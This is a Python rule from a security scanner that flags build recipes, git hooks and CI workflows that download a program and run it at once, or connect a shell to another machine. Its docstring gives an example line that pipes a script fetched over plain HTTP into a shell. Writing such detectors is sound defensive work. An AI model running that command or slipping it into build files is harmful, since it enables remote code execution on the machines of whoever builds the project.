"""A recipe for building or installing fetches a program and runs it at once.

## Why it matters
A `Dockerfile`, a `Makefile`, the scripts of `package.json`, a hook of git, the jobs of a workflow and shell scripts run
when somebody builds, installs or checks out what came with the model. What they fetch and hand to a shell is decided by
whoever answers at that moment, and without HTTPS by anybody in between.

## Example
`RUN curl http://192.0.2.1/x.sh | sh`.

## Remedy
Do not build it. Fetch the program, read it, pin it by its hash, and run that.

## References
CWE-494, Download of Code Without Integrity Check.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from assay.core import threat
from assay.core.finding import Confidence, Severity
from assay.formats.repository.text import Text
from assay.scan.rule import Hit, Rule
from assay.scan.surroundings.shell import fetches_and_runs, fetches_unprotected, opens_shell

_RECIPES: Final = re.compile(
    r"(?:.*[._-])?(?:dockerfile|containerfile|makefile|gnumakefile|justfile)(?:[._-].*)?|.*\.mk|package\.json|\.envrc|.*\.(?:ba|z)?sh"
    # Hooks of git, by the names under which it runs them.
    r"|(?:pre|post)-(?:commit|checkout|merge|push|rebase|applypatch|receive|update|rewrite)|prepare-commit-msg|commit-msg",
    re.IGNORECASE,
)


#: What a workflow has that a host runs on its own machines.
_WORKFLOW: Final = re.compile(r"^jobs:\s*$", re.MULTILINE)


def check(view: Text) -> Iterator[Hit]:
    """Lines of files that go by a recipe's name, or are a workflow."""
    name = view.name.rpartition("/")[2]
    workflow = name.endswith((".yml", ".yaml")) and _WORKFLOW.search(view.text[: 1 << 20])
    if not _RECIPES.fullmatch(name) and not workflow:
        return
    for number, line in enumerate(view.text[: 1 << 20].splitlines(), view.first_line):
        if line.lstrip().startswith("#"):
            continue
        if opens_shell(line):
            yield Hit("it connects a shell to another machine", line=number, severity=Severity.HIGH)
        elif fetches_unprotected(line):
            yield Hit("it fetches a program, unprotected on its way, and runs it at once", line=number)
        elif fetches_and_runs(line):
            yield Hit("it fetches a program and runs it at once", line=number, severity=Severity.LOW)


RULE = Rule(
    id="recipe-runs-download",
    reads=Text.kind,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    threats=threat.REMOTE_CODE,
    check=check,
    doc=__doc__,
)
